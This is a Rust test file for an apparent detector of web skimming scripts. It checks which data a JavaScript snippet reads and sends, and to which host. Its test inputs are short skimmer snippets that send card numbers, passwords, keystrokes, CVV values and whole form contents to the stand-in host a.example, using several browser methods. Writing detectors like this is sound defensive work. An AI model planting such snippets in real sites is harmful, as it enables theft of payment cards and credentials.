use super::super::{Destination, ScriptFacts, Trigger, Typed, read};

fn one(source: &str) -> super::super::Sending {
    let facts = read(source);
    assert_eq!(facts.sends.len(), 1, "{source}: {facts:?}");
    facts.sends[0].clone()
}

fn sent(facts: &ScriptFacts) -> Vec<&[Typed]> {
    facts.sends.iter().map(|one| one.typed.as_slice()).collect()
}

#[test]
fn every_way_out_is_known() {
    let number = "var n = document.getElementById('cc_number').value;";
    for way in [
        "new Image().src = 'https://a.example/?n=' + n",
        "var i = document.createElement('img'); i.setAttribute('src', 'https://a.example/?' + btoa(n))",
        "var f = document.createElement('iframe'); f.src = 'https://a.example/?' + n; document.body.append(f)",
        "fetch('https://a.example/', {method: 'POST', body: JSON.stringify({n: n})})",
        "navigator.sendBeacon('https://a.example/', n)",
        "var x = new XMLHttpRequest(); x.open('POST', 'https://a.example/'); x.send('n=' + n)",
        "var s = new WebSocket('wss://a.example/'); s.onopen = function () { s.send(n) }",
        "$.post('https://a.example/', {n: n})",
        "$.ajax({url: 'https://a.example/', data: 'n=' + n, type: 'POST'})",
        "axios.post('https://a.example/', {n})",
        "var d = new FormData(); d.append('n', n); fetch('https://a.example/', {body: d})",
        "var d = {}; d[k] = n; $.get('https://a.example/', d)",
        "var d = []; d.push('n=' + n); fetch('https://a.example/?' + d.join('&'))",
    ] {
        let sending = one(&format!("{number}{way}"));
        assert_eq!(sending.typed, [Typed::Cards], "{way}");
        let (Destination::Whole(to) | Destination::Begins(to)) = sending.target else { panic!() };
        assert!(to.contains("//a.example/"), "{way}: {to}");
    }
}

#[test]
fn what_is_sent_is_told_by_what_is_read() {
    for (read_by, typed) in [
        ("$('input[type=password]').val()", &[Typed::Passwords][..]),
        ("document.querySelectorAll('input, select')[i].value", &[Typed::AllFields]),
        ("document.forms[0].elements.q.value", &[]),
        ("$('#q').val()", &[]),
    ] {
        let facts = read(&format!("$.get('https://a.example/', {{a: {read_by}}})"));
        assert_eq!(sent(&facts), [typed], "{read_by}");
    }
    let keys = one(
        "var s = ''; document.onkeypress = function (e) { s += e.key; fetch('https://a.example/?k=' + s) }",
    );
    assert_eq!(keys.typed, [Typed::Keys]);
    assert_eq!(keys.trigger, Trigger::Anywhere("keypress".into()));
}

#[test]
fn all_fields_of_a_script_that_looks_for_cards_are_cards() {
    let source =
        "var s = ''; document.querySelectorAll('input').forEach(function (i) { s += i.value });
        if (/[0-9]{13,16}/.test(s)) { fetch('https://a.example/', {body: s}) }";
    assert_eq!(one(source).typed, [Typed::AllFields, Typed::Cards]);
}

#[test]
fn what_was_laid_down_is_sent_later() {
    let source = "function go() { $.post('https://a.example/', {c: document.cookie}) } go();
        $('button').click(function () { document.cookie = 'v=' + $('#cvv').val() })";
    assert_eq!(one(source).typed, [Typed::Cards]);
    assert!(read("$.post('https://a.example/', {c: document.cookie})").sends.is_empty());
}

#[test]
fn what_is_not_sent_is_not_told() {
    for source in [
        "var p = $('#password').val(); $.get('https://a.example/gia-vang')",
        "$('#password').keyup(function () { $('#a').text(this.value.length) })",
        "new Image().src = 'https://a.example/?' + document.title",
    ] {
        assert!(read(source).sends.is_empty(), "{source}");
    }
}

#[test]
fn what_may_be_nothing_does_not_go_round() {
    // An object of which nothing is known but that it may be absent.
    let source = "var a; if (document.getElementById('x').value) { a = null } a.b.c(); a.send(a)";
    assert!(read(source).sends.is_empty());
}
